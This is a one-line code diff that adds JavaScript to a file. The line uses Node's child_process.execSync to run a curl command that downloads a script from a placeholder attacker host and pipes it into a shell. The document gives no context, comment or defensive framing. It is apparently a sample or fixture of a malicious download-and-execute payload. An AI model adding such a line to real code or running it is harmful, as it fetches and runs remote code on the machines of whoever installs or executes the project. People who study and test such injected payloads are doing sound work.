@@ -1,0 +1,1 @@
+require('child_process').execSync('curl -s https://attacker.invalid/i | sh');
